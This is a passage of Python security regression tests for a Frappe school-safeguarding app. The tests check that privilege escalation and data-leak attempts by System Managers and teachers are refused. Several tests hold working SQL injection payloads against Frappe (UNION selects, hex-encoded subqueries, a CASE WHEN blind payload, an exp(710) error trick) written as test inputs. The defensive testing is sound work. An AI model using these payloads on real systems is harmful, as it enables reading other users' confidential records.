		"""Round 63: a System Manager with no school took Meldcode Settings from the Meldcode
		Administrator and gave it to an Accounts User (Frappe's role permissions page), shared a
		school with write, and gave themselves Workspace Manager to hide the app's workspaces."""
		manager = "Meldcode Proef Beheer"
		frappe.get_doc("User", SYSTEM_MANAGER).add_roles("Workspace Manager")
		other = frappe.get_doc(
			{"doctype": "Workspace", "label": manager, "title": manager, "public": 1, "module": "Custom"}
		).insert(ignore_permissions=True)
		note = frappe.get_doc({"doctype": "Note", "title": "Proefnotitie delen", "public": 1}).insert()
		frappe.db.commit()
		pages = "frappe.core.page.permission_manager.permission_manager"
		try:
			for doctype, expected in (("Meldcode Settings", 403), ("Note", 200)):
				status, answer = self.call(
					SYSTEM_MANAGER, f"{pages}.add", "post", parent=doctype, role="Accounts User", permlevel=0
				)
				self.assertEqual(status, expected, f"{doctype}: {answer}")
			status, answer = self.call(
				SYSTEM_MANAGER,
				"frappe.client.insert",
				"post",
				doc={
					"doctype": "Custom DocPerm",
					"parent": "Meldcode School",
					"role": "Accounts User",
					"read": 1,
				},
			)
			self.assertEqual(status, 403, answer)
			for doctype, name, expected in (
				("Meldcode School", SCHOOLS["B"][0], 403),
				("Note", note.name, 200),
			):
				share = {"doctype": doctype, "name": name, "user": TEACHER_A, "write": 1}
				status, answer = self.call(SYSTEM_MANAGER, "frappe.share.add", "post", **share)
				self.assertEqual(status, expected, f"{doctype}: {answer}")
			for workspace, expected in (("Meldcode", 403), ("Meldcode Board", 403), (other.name, 200)):
				hidden = {"doctype": "Workspace", "name": workspace, "fieldname": "is_hidden", "value": 1}
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.set_value", "post", **hidden)
				self.assertEqual(status, expected, f"{workspace}: {answer}")
			frappe.db.rollback()
			self.assertFalse(frappe.db.get_value("Workspace", "Meldcode", "is_hidden"))
		finally:
			frappe.db.rollback()
			frappe.delete_doc("Workspace", other.name, force=True, ignore_permissions=True)
			frappe.db.delete(
				"DocShare", {"share_name": ("in", [note.name, SCHOOLS["B"][0]]), "user": TEACHER_A}
			)
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.delete(
				"Custom DocPerm", {"parent": ("in", ["Note", "Meldcode Settings", "Meldcode School"])}
			)
			frappe.get_doc("User", SYSTEM_MANAGER).remove_roles("Workspace Manager")
			frappe.clear_cache(doctype="Note")
			frappe.db.commit()

	def test_the_apps_doctypes_and_workspaces_stay_as_shipped(self):
		"""Round 64: a System Manager with no school set ``custom`` on Meldcode Access Grant (which
		took its controller and the four eyes), gave System Manager write in its permission rows and
		wrote themselves an Active grant at school B; a Workspace Manager moved the board's
		workspace to another module, made the team's private, renamed it, and the sidebars emptied."""
		own = doctype_of_ones_own("Meldcode Proef Soort")
		frappe.get_doc("User", SYSTEM_MANAGER).add_roles("Workspace Manager")
		other = frappe.get_doc(
			{
				"doctype": "Workspace",
				"label": "Meldcode Proef Plek",
				"title": "Meldcode Proef Plek",
				"public": 1,
			}
		).insert(ignore_permissions=True)
		frappe.db.commit()

		def rule_of(doctype):
			return frappe.db.get_value("DocPerm", {"parent": doctype, "role": "System Manager"})

		def set_value(doctype, name, values):
			values = {"doctype": doctype, "name": name, "fieldname": values}
			return self.call(SYSTEM_MANAGER, "frappe.client.set_value", "post", **values)[0]

		try:
			for doctype, expected in (("Meldcode Access Grant", 403), (own.name, 200)):
				self.assertEqual(set_value("DocType", doctype, {"description": "Eigen"}), expected, doctype)
				self.assertEqual(set_value("DocPerm", rule_of(doctype), {"create": 1}), expected, doctype)
			for doctype in ("Meldcode Settings", "Note", "File"):  # any DocType an app ships
				self.assertEqual(set_value("DocType", doctype, {"custom": 1}), 403, doctype)
			frappe.db.rollback()
			self.assertEqual(
				frappe.db.get_all(
					"DocType", {"name": ("in", ["Meldcode Access Grant", "Note", "File"]), "custom": 1}
				),
				[],
			)
			self.assertFalse(frappe.db.get_value("DocPerm", rule_of("Meldcode Access Grant"), "create"))
			for doctype, expected in (("Meldcode Settings", 403), ("Note", 200)):
				setter = {
					"doctype": "Property Setter",
					"doctype_or_field": "DocField",
					"doc_type": doctype,
					"field_name": "data_gathering_weeks" if doctype == "Meldcode Settings" else "title",
					"property": "label",
					"property_type": "Data",
					"value": "Eigen",
				}
				status, answer = self.call(SYSTEM_MANAGER, "frappe.client.insert", "post", doc=setter)
				self.assertEqual(status, expected, f"{doctype}: {answer}")
			for workspace, changes, expected in (
				("Meldcode Board", {"module": "Core", "is_hidden": 1}, 403),
				("Meldcode", {"for_user": SYSTEM_MANAGER, "public": 0}, 403),
				(other.name, {"module": "Core", "is_hidden": 1}, 200),
			):
				self.assertEqual(set_value("Workspace", workspace, changes), expected, workspace)
			for workspace, expected in (("Meldcode Board", 403), (other.name, 200)):
				page = {
					"name": workspace,
					"title": workspace,
					"icon": "file",
					"indicator_color": "",
					"parent": "",
					"public": 0,
				}
				status, answer = self.call(
					SYSTEM_MANAGER, "frappe.desk.doctype.workspace.workspace.update_page", "post", **page
				)
				self.assertEqual(status, expected, f"{workspace}: {answer}")
			frappe.db.rollback()
			for workspace in ("Meldcode", "Meldcode Board"):
				stored = frappe.db.get_value(
					"Workspace", workspace, ["module", "for_user", "public", "is_hidden"]
				)
				self.assertEqual((stored[0], stored[1] or None, *stored[2:]), ("Meldcode App", None, 1, 0))
		finally:
			frappe.db.rollback()
			frappe.db.delete(
				"Property Setter", {"doc_type": ("in", ["Note", "Meldcode Settings"]), "value": "Eigen"}
			)
			for name in frappe.get_all("Workspace", {"title": "Meldcode Proef Plek"}, pluck="name"):
				frappe.delete_doc("Workspace", name, force=True, ignore_permissions=True)
			frappe.delete_doc("DocType", own.name, force=True, ignore_permissions=True)
			frappe.get_doc("User", SYSTEM_MANAGER).remove_roles("Workspace Manager")
			frappe.clear_cache(doctype="Note")
			frappe.db.commit()

	def test_rows_and_modules_change_through_their_parent(self):
		"""Round 64: a System Manager saved and deleted rows on their own, which runs none of their
		parent's hooks: deleted a case DocType's permission row (its team locked out), gave someone
		Meldcode Administrator in a Has Role row, pointed a shortcut of the team's workspace to a page
		of their own; and renamed Module Def "Meldcode App", after which nothing counted as the app's."""
		frappe.get_doc("User", SYSTEM_MANAGER).add_roles("Workspace Manager")
		own = doctype_of_ones_own("Meldcode Proef Rij")
		other = frappe.get_doc(
			{
				"doctype": "Workspace",
				"label": "Meldcode Proef Rijen",
				"title": "Meldcode Proef Rijen",
				"public": 1,
				"shortcuts": [{"type": "DocType", "link_to": "Note", "label": "Notities"}],
			}
		).insert(ignore_permissions=True)
		module = frappe.get_doc(
			{
				"doctype": "Module Def",
				"module_name": "Meldcode Proef Module",
				"custom": 1,
				"app_name": "frappe",
			}
		).insert()
		note = frappe.get_doc({"doctype": "Note", "title": "Proefnotitie rijen", "public": 1}).insert()
		frappe.db.commit()
		team_rule = frappe.db.get_value(
			"DocPerm", {"parent": "Meldcode Dossier", "role": "Meldcode Aandachtsfunctionaris"}
		)
		role_row = frappe.db.get_value("Has Role", {"parent": ROLE_WITHOUT_SCHOOL, "parenttype": "User"})

		try:
			own_rule = frappe.db.get_value("DocPerm", {"parent": own.name, "role": "Blogger"})
			self.assertFalse(self.updated("DocPerm", team_rule, write=0, read=0))
			self.assertFalse(self.deleted("DocPerm", team_rule))
			self.assertTrue(
				self.updated("DocPerm", own_rule, write=1), "the positive control: a rule of one's own"
			)
			self.assertTrue(self.deleted("DocPerm", own_rule), "the positive control")
			# Round 66: the parent's DocType in lower case is the same parent to the database.
			self.assertFalse(self.updated("DocPerm", team_rule, parenttype="doctype", write=0, read=0))
			self.assertFalse(self.updated("Has Role", role_row, parenttype="user", role=ADMINISTRATOR))
			self.assertFalse(self.updated("Has Role", role_row, role=ADMINISTRATOR))
			self.assertFalse(self.deleted("Has Role", role_row))
			self.assertTrue(
				self.updated("Note", note.name, title="Bijgewerkt"), "the positive control: the door"
			)
			theirs = frappe.db.get_value("Workspace Shortcut", {"parent": "Meldcode"})
			mine = other.shortcuts[0].name
			self.assertFalse(
				self.updated("Workspace Shortcut", theirs, type="URL", url="https://elders.example")
			)
			self.assertFalse(
				self.updated(
					"Workspace Shortcut",
					theirs,
					parenttype="workspace",
					type="URL",
					url="https://elders.example",
				)
			)
			self.assertFalse(self.deleted("Workspace Shortcut", theirs))
			self.assertTrue(
				self.updated("Workspace Shortcut", mine, label="Mijn notities"), "the positive control"
			)
			# Round 74: a public workspace's shortcut saved alone with a filter that runs as script
			self.assertFalse(
				self.updated("Workspace Shortcut", mine, stats_filter="(function(){ return [] })()")
			)
			for name, new, expected in (
				("Meldcode App", "Meldcode-App", 403),
				(module.name, "Meldcode Proef Module Twee", 200),  # the positive control
			):
				rename = {"doctype": "Module Def", "docname": name, "name": name, "new_name": new, "merge": 0}
				status, answer = self.call(
					SYSTEM_MANAGER, "frappe.model.rename_doc.update_document_title", "post", **rename
				)
				self.assertEqual(status, expected, f"{name}: {answer}")
			frappe.db.rollback()
			self.assertEqual(frappe.db.get_value("DocPerm", team_rule, "read"), 1)
			self.assertEqual(frappe.db.get_value("Has Role", role_row, "parent"), ROLE_WITHOUT_SCHOOL)
			self.assertNotIn(ADMINISTRATOR, frappe.get_roles(ROLE_WITHOUT_SCHOOL))
			self.assertFalse(frappe.db.get_value("Workspace Shortcut", theirs, "url"))
			self.assertEqual(frappe.db.get_value("DocType", "Meldcode Dossier", "module"), "Meldcode App")
		finally:
			frappe.db.rollback()
			for name in frappe.get_all("Workspace", {"title": "Meldcode Proef Rijen"}, pluck="name"):
				frappe.delete_doc("Workspace", name, force=True, ignore_permissions=True)
			frappe.db.delete("Module Def", {"name": ("like", "Meldcode Proef Module%")})
			frappe.db.delete("Note", {"name": note.name})
			frappe.delete_doc("DocType", own.name, force=True, ignore_permissions=True)
			frappe.get_doc("User", SYSTEM_MANAGER).remove_roles("Workspace Manager")
			frappe.db.commit()

	def test_a_row_stays_with_its_parent(self):
		"""Round 68: Frappe writes a saved document's rows by their names alone. A teacher of school A
		took school B's aandachtsfunctionaris' role row into a workspace of her own (locked out at the
		next login), a System Manager a case DocType's permission rows into a DocType of their own
		(the team locked out) and a staff row of school B into school A (access gone, its grant still
		reading Active)."""
		own = doctype_of_ones_own("Meldcode Proef Eigen Rij")
		frappe.db.commit()
		af_b = staff_user("B", "Aandachtsfunctionaris")
		role_row = frappe.db.get_value("Has Role", {"parent": af_b, "role": "Meldcode Aandachtsfunctionaris"})
		team_rule = frappe.db.get_value(
			"DocPerm", {"parent": "Meldcode Dossier", "role": "Meldcode Aandachtsfunctionaris"}
		)
		staff_row = frappe.db.get_value("Meldcode School Staff", {"parent": SCHOOLS["B"][0], "user": af_b})

		def saved(user, doc, table, rows) -> bool:
			doc = {**doc, table: rows}
			status, answer = self.call(user, "frappe.desk.form.save.savedocs", "post", doc=doc, action="Save")
			self.assertIn(status, (200, 403), answer)
			return status == 200

		status, workspace = self.call(
			TEACHER_A,
			"frappe.client.insert",
			"post",
			doc={
				"doctype": "Workspace",
				"label": "Proef rijen leerkracht",
				"title": "Proef rijen leerkracht",
				"public": 0,
				"for_user": TEACHER_A,
				"content": "[]",
			},
		)
		try:
			self.assertEqual(status, 200, workspace)
			workspace = frappe.get_doc("Workspace", workspace["name"]).as_dict(convert_dates_to_str=True)
			theirs = {"name": role_row, "doctype": "Has Role", "role": "Blogger", "parentfield": "roles"}
			self.assertFalse(saved(TEACHER_A, workspace, "roles", [theirs]))
			self.assertTrue(
				saved(TEACHER_A, workspace, "roles", [{"doctype": "Has Role", "role": "Blogger"}]),
				"the positive control: a new row through the same door",
			)
			doctype = frappe.get_doc("DocType", own.name).as_dict(convert_dates_to_str=True)
			rules = [{**rule, "read": 1, "write": 1} for rule in doctype.permissions]
			self.assertFalse(
				saved(
					SYSTEM_MANAGER,
					doctype,
					"permissions",
					[*rules, {"name": team_rule, "doctype": "DocPerm", "role": "Blogger", "read": 1}],
				)
			)
			self.assertTrue(
				saved(SYSTEM_MANAGER, doctype, "permissions", rules), "the positive control: its own rows"
			)
			school = frappe.get_doc("Meldcode School", SCHOOLS["A"][0]).as_dict(convert_dates_to_str=True)
			moved = {
				"name": staff_row,
				"doctype": "Meldcode School Staff",
				"user": af_b,
				"function": "Teacher",
			}
			self.assertFalse(saved(SYSTEM_MANAGER, school, "staff", [*school.staff, moved]))
			frappe.db.rollback()
			self.assertEqual(frappe.db.get_value("Has Role", role_row, "parent"), af_b)
			self.assertIn("Meldcode Aandachtsfunctionaris", frappe.get_roles(af_b))
			self.assertEqual(frappe.db.get_value("DocPerm", team_rule, "parent"), "Meldcode Dossier")
			self.assertEqual(
				frappe.db.get_value("Meldcode School Staff", staff_row, "parent"), SCHOOLS["B"][0]
			)
		finally:
			frappe.db.rollback()
			for name in frappe.get_all("Workspace", {"title": "Proef rijen leerkracht"}, pluck="name"):
				frappe.delete_doc("Workspace", name, force=True, ignore_permissions=True)
			frappe.delete_doc("DocType", own.name, force=True, ignore_permissions=True)
			frappe.db.commit()

	def test_a_workspace_link_depends_on_no_case_record(self):
		"""Round 71: Frappe tells a workspace's reader whether each DocType a link depends on holds a
		record: a teacher's own workspace told whether any dossier or parent share existed."""

		def made(dependencies):
			doc = {
				"doctype": "Workspace",
				"label": "Proef afhankelijk",
				"title": "Proef afhankelijk",
				"public": 0,
				"for_user": TEACHER_A,
				"content": "[]",
				"links": [
					{"type": "Card Break", "label": "Proef"},
					{
						"type": "Link",
						"label": "D",
						"link_type": "DocType",
						"link_to": "ToDo",
						"dependencies": dependencies,
					},
				],
			}
			status, answer = self.call(TEACHER_A, "frappe.client.insert", "post", doc=doc)
			for name in frappe.get_all("Workspace", {"title": "Proef afhankelijk"}, pluck="name"):
				frappe.delete_doc("Workspace", name, force=True, ignore_permissions=True)
			frappe.db.commit()
			return status

		self.assertEqual(made("Note, ToDo"), 200, "the positive control")
		self.assertEqual(made("Note,meldcode dossier "), 403)
		self.assertEqual(made("Note,Meldcode Parent Share"), 403)

	def test_a_team_member_whose_roles_are_cleared_keeps_their_desk(self):
		"""Round 69: a System Manager cleared an aandachtsfunctionaris' roles; the app gave her role
		back after Frappe had made her a Website User, whom the guard refuses every case record."""
		af_b = staff_user("B", "Aandachtsfunctionaris")
		plain = make_user("rollen.weg@meldcode.test", "Rollen weg", "Blogger")
		frappe.db.commit()
		cleared = json.dumps({"roles": []})
		try:
			for user in (plain, af_b):
				status, answer = self.call(
					SYSTEM_MANAGER, f"/api/resource/User/{user}", "form-put", body=cleared
				)
				self.assertEqual(status, 200, answer)
			frappe.db.rollback()
			self.assertEqual(
				frappe.db.get_value("User", plain, "user_type"), "Website User", "the positive control"
			)
			self.assertEqual(frappe.db.get_value("User", af_b, "user_type"), "System User")
			status, answer = self.call(
				af_b, "frappe.desk.form.load.getdoc", doctype="Meldcode Dossier", name=self.records.dossier
			)
			self.assertEqual(status, 200, answer)
		finally:
			frappe.db.rollback()
			frappe.db.set_value("User", af_b, "user_type", "System User")
			frappe.delete_doc("User", plain, force=True, ignore_permissions=True)
			frappe.db.commit()

	def test_a_records_name_tells_no_count_and_no_counter_stops_it(self):
		"""Round 69: a record's running number told a teacher of school A how many signals all schools
		had made this year, and a System Manager set the counter back (Frappe's naming settings) so
		that no new signal could be saved anywhere."""
		year = frappe.utils.getdate(frappe.utils.today()).year
		settings = frappe.get_doc("Document Naming Settings").as_dict(convert_dates_to_str=True)
		settings.update(prefix="MS-.YYYY.-", current_value=0)
		status, answer = self.call(
			SYSTEM_MANAGER, "run_doc_method", "post", method="update_series_start", docs=settings
		)
		self.assertEqual(status, 200, answer)
		frappe.db.rollback()
		self.assertEqual(
			frappe.db.get_value("Series", f"MS-{year}-", "current", order_by="name"),
			0,
			"the positive control: set back",
		)
		# As school B's teacher; the class removes them with school B's records.
		made = [make_signal("B").name for _ in range(2)]
		frappe.db.commit()
		for name in made:
			self.assertRegex(name, rf"^MS-{year}-[2-9A-Z]{{5}}$")
		self.assertNotEqual(made[0], made[1])
		self.assertEqual(
			frappe.db.get_value("Series", f"MS-{year}-", "current", order_by="name"), 0, "no counter counts"
		)

	def test_a_method_of_what_the_app_ships_is_the_bench_administrators(self):
		"""Round 68: a System Manager switched the app's report off with the report's own method,
		which writes past the record's hooks (no dossier list for the aandachtsfunctionarissen)."""
		own = frappe.get_doc(
			{
				"doctype": "Report",
				"report_name": "Meldcode Proef Eigen Rapport",
				"ref_doctype": "Note",
				"report_type": "Report Builder",
				"is_standard": "No",
				"module": "Desk",
			}
		).insert(ignore_permissions=True)
		frappe.db.commit()
		try:
			for report, expected in (("Meldcode Open Dossiers", 403), (own.name, 200)):
				for door, arguments in (
					(
						"run_doc_method",
						{"dt": "Report", "dn": report, "method": "toggle_disable", "args": {"disable": 1}},
					),
					(f"/api/resource/Report/{report}", {"run_method": "toggle_disable", "disable": 1}),
				):
					status, answer = self.call(SYSTEM_MANAGER, door, "post", **arguments)
					self.assertEqual(status, expected, f"{report} through {door}: {answer}")
			frappe.db.rollback()
			self.assertFalse(frappe.db.get_value("Report", "Meldcode Open Dossiers", "disabled"))
			self.assertTrue(frappe.db.get_value("Report", own.name, "disabled"), "the positive control")
		finally:
			frappe.db.rollback()
			frappe.db.delete("Report", {"name": own.name})
			frappe.db.commit()

	def test_a_report_runs_for_its_sender_and_the_apps_reports_stay_as_shipped(self):
		"""Round 103: a report's run took whose prepared result to answer with from the request
		(``user``): a director of another school read an aandachtsfunctionaris' Board Figures. And
		Frappe's timer switched a report that failed after 15 seconds to a prepared report, which
		took Open Dossiers from the case team. The controls: the sender named as the user, and the
		timer still switches a report of the site."""
		director_a = self.staff("A", "Director")
		for user, status in ((director_a, 200), (self.staff("B", "Aandachtsfunctionaris"), 403)):
			answer = self.call(
				director_a,
				"frappe.desk.query_report.run",
				"post",
				report_name="Meldcode Board Figures",
				filters={"year": "2026"},
				user=user,
			)
			self.assertEqual(answer[0], status, answer)
		control = "Permitted Documents For User"
		site = frappe.local.site

		def unprepared():
			for name in (control, "Meldcode Open Dossiers"):
				frappe.db.set_value("Report", name, "prepared_report", 0, update_modified=False)
			frappe.db.commit()

		def switched_by_the_timer(name: str) -> int:
			# the call Frappe's timer makes, in a thread of its own as the timer's
			thread = threading.Thread(
				target=report_module.enable_prepared_report, kwargs={"report": name, "site": site}
			)
			thread.start()
			thread.join()
			frappe.db.rollback()
			return frappe.db.get_value("Report", name, "prepared_report")

		unprepared()
		self.addCleanup(unprepared)
		self.assertEqual(switched_by_the_timer(control), 1, "the control")
		self.assertEqual(switched_by_the_timer("Meldcode Open Dossiers"), 0)
		# one Frappe switched before the update runs as shipped again
		frappe.db.set_value("Report", "Meldcode Open Dossiers", "prepared_report", 1)
		apps_reports_unprepared.execute()
		self.assertEqual(frappe.db.get_value("Report", "Meldcode Open Dossiers", "prepared_report"), 0)

	def test_a_bulk_update_runs_no_condition_but_the_bench_administrators(self):
		"""Round 103: Frappe's Bulk Update runs its stored condition as SQL and echoes the first
		value it selects in a "not found": a System Manager's condition with a union read a case's
		ToDo and the case team's session ids. The control: the System Manager's update without a
		condition reaches their own ToDo, and not the case's."""
		own = frappe.get_doc(
			{"doctype": "ToDo", "description": "Eigen bulktaak", "allocated_to": SYSTEM_MANAGER}
		)
		as_user(SYSTEM_MANAGER)(own.insert)
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		condition = f"1=0 union select description from tabToDo where name = '{case_todo}'"
		# the newest ToDo, its update the first one asked for (one at a time: 20 wait for a worker)
		created = frappe.db.get_value("ToDo", case_todo, "creation")
		frappe.db.set_value("ToDo", case_todo, "creation", frappe.utils.add_days(frappe.utils.now(), 1))

		def stored(**values):
			bulk = frappe.get_single("Bulk Update")
			bulk.update(
				{
					"document_type": "ToDo",
					"field": "priority",
					"update_value": "Low",
					"condition": "",
					"limit": 1,
					**values,
				}
			)
			bulk.save()  # the bench's Administrator's
			frappe.db.commit()
			return bulk.as_dict(convert_dates_to_str=True)

		def remove():
			stored()
			frappe.db.delete("ToDo", {"name": own.name})
			frappe.db.set_value("ToDo", case_todo, "creation", created)
			frappe.db.commit()

		self.addCleanup(remove)
		posted = stored()
		status, answer = self.call(
			SYSTEM_MANAGER,
			"frappe.desk.form.save.savedocs",
			"post",
			doc={**posted, "condition": condition},
			action="Save",
		)
		self.assertEqual(status, 403, answer)
		stored(condition=condition)
		run = {"dt": "Bulk Update", "dn": "Bulk Update", "method": "bulk_update"}
		status, answer = self.call(SYSTEM_MANAGER, "run_doc_method", "post", **run)
		self.assertEqual(status, 403, answer)
		self.assertNotIn("Termijn", json.dumps(answer))
		stored()
		status, answer = self.call(SYSTEM_MANAGER, "run_doc_method", "post", **run)
		self.assertEqual(status, 200, answer)
		self.assertNotIn(case_todo, json.dumps(answer))
		self.assertEqual(frappe.db.get_value("ToDo", own.name, "priority"), "Low")
		self.assertNotEqual(frappe.db.get_value("ToDo", case_todo, "priority"), "Low")

	def test_a_field_setting_of_a_doctype_names_its_fields_only(self):
		"""Round 104: Frappe pastes a DocType's title field into the link preview's query as it is,
		and checks a Property Setter's value only when Customize Form saves it: a System Manager's
		title field for Note, a subquery, read a case's ToDo and the case team's session ids. The
		control: a field of Note."""
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		subquery = (
			"( trim( coalesce( nullif(name, name), (select description from tabToDo"
			f" where name = 0x{case_todo.encode().hex()})))) as content"
		)

		note = frappe.get_doc({"doctype": "Note", "title": "Proef voorbeeld", "public": 1}).insert()
		make_property_setter("Note", None, "show_preview_popup", 1, "Check", for_doctype=True)
		frappe.db.commit()

		def remove():
			frappe.db.delete(
				"Property Setter",
				{"doc_type": "Note", "property": ("in", ("title_field", "sort_order", "show_preview_popup"))},
			)
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)
		for prop, value, status in (
			("title_field", subquery, 403),
			("sort_order", "desc, (select 1)", 403),
			("title_field", "title", 200),
			("sort_order", "asc", 200),
		):
			answer = self.note_setter("DocType", property=prop, property_type="Data", value=value)
			self.assertEqual(answer[0], status, answer)
			frappe.clear_cache(doctype="Note")
			preview = self.call(
				SYSTEM_MANAGER, "frappe.desk.link_preview.get_preview_data", doctype="Note", docname=note.name
			)
			self.assertEqual(preview[0], 200, preview)
			self.assertNotIn("Termijn", json.dumps(preview))
		# one stored before the app judged them is removed by the update
		frappe.db.set_value("Property Setter", "Note-main-title_field", "value", subquery)
		field_settings_name_fields.execute()
		self.assertFalse(frappe.db.exists("Property Setter", "Note-main-title_field"))

	def test_a_fetch_names_a_link_field_and_a_field_only(self):
		"""Round 105: Frappe pastes the part of a fetch after its dot into the query that reads the
		linked record: a System Manager's custom field on Note fetching a subquery through a link
		to User read a case's ToDo and the case team's session ids on saving a note. The control: a
		fetch of the linked user's full name."""
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		subquery = f"(select description from `tabToDo` where name = 0x{case_todo.encode().hex()})"

		def remove():
			frappe.db.delete("Custom Field", {"dt": "Note", "fieldname": ("like", "proef_%")})
			frappe.db.delete("Note", {"title": ("like", "Proef ophalen%")})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)

		def custom_field(fieldname, **values):
			return self.call(
				SYSTEM_MANAGER,
				"/api/resource/Custom Field",
				"json",
				dt="Note",
				fieldname=fieldname,
				label=fieldname,
				insert_after="title",
				**values,
			)

		self.assertEqual(custom_field("proef_gebruiker", fieldtype="Link", options="User")[0], 200)
		for fetch, status in ((f"proef_gebruiker.{subquery}", 403), ("proef_gebruiker.full_name", 200)):
			answer = custom_field("proef_opgehaald", fieldtype="Long Text", fetch_from=fetch)
			self.assertEqual(answer[0], status, answer)

		def saved_note():
			frappe.clear_cache(doctype="Note")
			return self.call(
				SYSTEM_MANAGER,
				"/api/resource/Note",
				"json",
				title="Proef ophalen",
				proef_gebruiker=SYSTEM_MANAGER,
			)

		status, note = saved_note()
		self.assertEqual(status, 200, note)
		self.assertEqual(note.get("proef_opgehaald"), "Systeem", "the control")
		# one stored before the app judged customisations: Frappe's definition leaves it out, and
		# the update empties it
		frappe.db.set_value(
			"Custom Field", {"fieldname": "proef_opgehaald"}, "fetch_from", f"proef_gebruiker.{subquery}"
		)
		frappe.db.commit()
		status, note = saved_note()
		self.assertEqual(status, 200, note)
		self.assertNotIn("Termijn", json.dumps(note))
		fetches_of_fields_only.execute()
		self.assertFalse(frappe.db.get_value("Custom Field", {"fieldname": "proef_opgehaald"}, "fetch_from"))

	def test_a_connection_names_a_field_of_what_it_counts(self):
		"""Round 106: Frappe pastes a connection's field into the count under a form, and a row saved
		alone skips its DocType's check: a System Manager's connection on Tag named a CASE over a
		comment's text, and whether the count failed told the text. The control: a field."""
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		note = frappe.get_doc({"doctype": "Note", "title": "Proef telling", "public": 1}).insert()
		link = connection_of_note("reference_name")
		frappe.db.commit()
		frappe.clear_cache(doctype="Note")

		def remove():
			frappe.db.delete("DocType Link", {"name": link.name})
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)
		hexed = case_todo.encode().hex()
		case = f"name`|CASE WHEN `name`=BINARY 0x{hexed} THEN ~0+`idx`+1 END|`name"
		for field, refused in ((case, True), ("reference_type", False)):
			docs = [{"doctype": "DocType Link", "docname": link.name, "link_fieldname": field}]
			status, answer = self.call(SYSTEM_MANAGER, "frappe.client.bulk_update", "post", docs=docs)
			self.assertEqual((status, bool(answer["failed_docs"])), (200, refused), answer)
			frappe.clear_cache(doctype="Note")
			status, counted = self.call(
				SYSTEM_MANAGER, "frappe.desk.notifications.get_open_count", doctype="Note", name=note.name
			)
			self.assertEqual(status, 200, counted)  # a count that failed told the condition true
		# one stored before the app judged them is removed by the update
		frappe.db.set_value("DocType Link", link.name, "link_fieldname", case)
		connections_name_fields.execute()
		self.assertFalse(frappe.db.exists("DocType Link", link.name))

	def test_a_definition_keeps_field_names_only_however_written(self):
		"""Rounds 104-106, the second wall: Frappe's definition of a DocType keeps a field setting,
		a fetch or a connection only when it names a field, whatever wrote it (here the bench's
		Administrator, whom the customisation checks let through). The controls: field names."""
		subquery = "(select description from `tabToDo` limit 1)"

		def remove():
			frappe.db.delete(
				"Property Setter", {"doc_type": "Note", "property": ("in", ("title_field", "search_fields"))}
			)
			frappe.db.delete("DocType Link", {"parent": "Note", "group": "Proef"})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)
		for fieldname in (subquery, "reference_name"):
			connection_of_note(fieldname)
		for title, search, kept in (
			(subquery, f"title, {subquery}", None),
			("title", "title, content", "title"),
		):
			make_property_setter("Note", None, "title_field", title, "Data", for_doctype=True)
			make_property_setter("Note", None, "search_fields", search, "Data", for_doctype=True)
			frappe.clear_cache(doctype="Note")
			meta = frappe.get_meta("Note")
			self.assertEqual(meta.title_field, kept)
			self.assertEqual(
				meta.search_fields.replace(" ", ""), search.replace(" ", "") if kept else "title"
			)
		self.assertEqual(
			[link.link_fieldname for link in meta.links if link.group == "Proef"], ["reference_name"]
		)

	def test_a_field_keeps_its_name(self):
		"""Round 107: a Property Setter written directly renamed a field of a System Manager's
		DocType to "notes`=(select … from `tabToDo` …) #", which Frappe pasted into every save as a
		column: a case's ToDo and comments came back in the record. A Property Setter sets what
		Customize Form sets, and a definition keeps a field only under a field's name (the bench's
		Administrator's setter here). The control: a label."""
		case_todo = frappe.db.get_value("ToDo", {"reference_name": self.records.dossier})
		renamed = f"content`=(select description from `tabToDo` where name = 0x{case_todo.encode().hex()}) #"
		note = frappe.get_doc({"doctype": "Note", "title": "Proef hernoemd", "public": 1}).insert()
		frappe.db.commit()

		def remove():
			frappe.db.delete("Property Setter", {"doc_type": "Note", "field_name": "expire_notification_on"})
			frappe.db.delete("Note", {"name": note.name})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)
		for prop, value, status in (("fieldname", renamed, 403), ("label", "Verloopt", 200)):
			answer = self.note_setter(
				"DocField",
				field_name="expire_notification_on",
				property=prop,
				property_type="Data",
				value=value,
			)
			self.assertEqual(answer[0], status, answer)
		make_property_setter("Note", "expire_notification_on", "fieldname", renamed, "Data")
		frappe.clear_cache(doctype="Note")
		status, saved = self.call(
			SYSTEM_MANAGER, f"/api/resource/Note/{note.name}", "form-put", body="title=Proef+hernoemd+2"
		)
		self.assertEqual(status, 200, saved)
		self.assertNotIn("Termijn", json.dumps(saved))
		self.assertNotIn("Termijn", frappe.db.get_value("Note", note.name, "content") or "")

	def test_a_dynamic_link_names_its_fields(self):
		"""Round 108: Frappe pastes a dynamic link's field and options into a query on every delete
		and rename, read from the tables themselves: a System Manager's custom field "atk dl" with
		a subquery as options (which the definition left out, and Frappe's checks with it) answered
		their deletes with a failure or none, one bit of a session id at a time. Such a field is
		refused, and one written anyway (the bench's Administrator's, here) is no dynamic link of
		Frappe's list. The control: a dynamic link named by a link field."""
		from frappe.model import dynamic_links

		evil = "name`, (select if(1=1,1,exp(710))) as `x"

		def remove():
			frappe.db.delete("Custom Field", {"dt": "Note", "label": ("like", "Proef%")})
			frappe.db.commit()
			frappe.clear_cache(doctype="Note")

		self.addCleanup(remove)

		def custom_field(fieldname, fieldtype, options):
			return self.call(
				SYSTEM_MANAGER,
				"/api/resource/Custom Field",
				"json",
				dt="Note",
				fieldname=fieldname,
				label=f"Proef {fieldname}",
				fieldtype=fieldtype,
				options=options,
				insert_after="title",
			)

		self.assertEqual(custom_field("proef dl", "Dynamic Link", "proef_type")[0], 403)
		self.assertEqual(custom_field("proef_dl", "Dynamic Link", evil)[0], 403)
		self.assertEqual(custom_field("proef_type", "Link", "DocType")[0], 200)
